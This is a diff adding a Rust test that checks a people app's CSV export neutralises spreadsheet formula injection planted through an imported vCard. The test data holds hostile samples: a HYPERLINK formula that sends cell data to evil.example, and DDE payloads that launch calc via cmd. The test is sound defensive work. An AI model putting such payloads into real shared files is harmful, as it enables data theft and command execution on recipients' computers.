@@ -248,3 +248,88 @@ fn the_json_file_is_the_people_export_and_people_export_stays_json() -> TestResu
     assert_eq!(e.field.as_deref(), Some("format"));
     Ok(())
 }
+
+/// A shared vCard can plant a formula in a name or a note; imported and exported as CSV it
+/// must come out as text a spreadsheet shows, not runs. Phone numbers and negative numbers
+/// stay as they are.
+#[test]
+fn formula_cells_from_a_shared_vcard_come_out_inert_in_csv() -> TestResult {
+    use base64::Engine as _;
+    let s = Sphere::open_in_memory()?;
+    s.person_create(PersonInput {
+        first_name: "Ada".into(),
+        ring: Some(Ring::Centre),
+        ..Default::default()
+    })?;
+    let card = "BEGIN:VCARD\r\nVERSION:3.0\r\n\
+        N:Smith;=HYPERLINK(\"http://evil.example/?d=\"&A1\\,\"Click\");;;\r\n\
+        FN:=HYPERLINK(\"http://evil.example/?d=\"&A1\\,\"Click\") Smith\r\n\
+        TEL:+1 555 0100\r\n\
+        TITLE:@SUM(1+9)*cmd|' /C calc'!A0\r\n\
+        NOTE:-2+3+cmd|' /C calc'!A0\r\n\
+        END:VCARD\r\n";
+    s.import_commit(ImportFileRequest {
+        file_name: "shared.vcf".into(),
+        data: base64::engine::general_purpose::STANDARD.encode(card),
+        ..Default::default()
+    })?;
+    let people = s.person_list(Default::default())?;
+    let planted = people
+        .items
+        .iter()
+        .find(|p| p.last_name == "Smith")
+        .ok_or("the imported card")?;
+    assert!(
+        planted.first_name.starts_with("=HYPERLINK"),
+        "the import keeps what the card says: {planted:?}"
+    );
+    s.fact_create(FactInput {
+        person_id: planted.id,
+        category: "certification".into(),
+        value: "-1 point on the exam".into(),
+        ..Default::default()
+    })?;
+    let file = s.people_export_file(ExportQuery {
+        format: Some(ExportFormat::Csv),
+        ..Default::default()
+    })?;
+    let mut r = csv::Reader::from_reader(file.text.as_bytes());
+    let header: Vec<String> = r.headers()?.iter().map(str::to_string).collect();
+    let row = r
+        .records()
+        .collect::<Result<Vec<_>, _>>()?
+        .into_iter()
+        .find(|r| r.get(0) == Some(planted.id.to_string().as_str()))
+        .ok_or("the planted row")?;
+    let col = |name: &str| {
+        let i = header.iter().position(|h| h == name).unwrap_or(usize::MAX);
+        row.get(i).unwrap_or_default().to_string()
+    };
+    for name in ["first_name", "title", "notes"] {
+        let cell = col(name);
+        assert!(
+            cell.starts_with('\''),
+            "{name} must start with the quote that makes it text: {cell:?}"
+        );
+        assert!(
+            !cell[1..].starts_with('\''),
+            "exactly one quote is added: {cell:?}"
+        );
+    }
+    assert_eq!(
+        col("first_name"),
+        format!("'{}", planted.first_name),
+        "the rest of the cell is the data, unchanged"
+    );
+    assert_eq!(col("phones"), "+1 555 0100", "a phone number stays usable");
+    assert_eq!(col("last_name"), "Smith");
+    assert_eq!(col("facts"), "certification: -1 point on the exam");
+    // No line of the file starts a cell with a formula character outside quotes.
+    for (n, cells) in file.text.lines().map(|l| l.to_string()).enumerate() {
+        assert!(
+            !cells.starts_with(['=', '@']),
+            "line {n} starts with a formula: {cells}"
+        );
+    }
+    Ok(())
+}
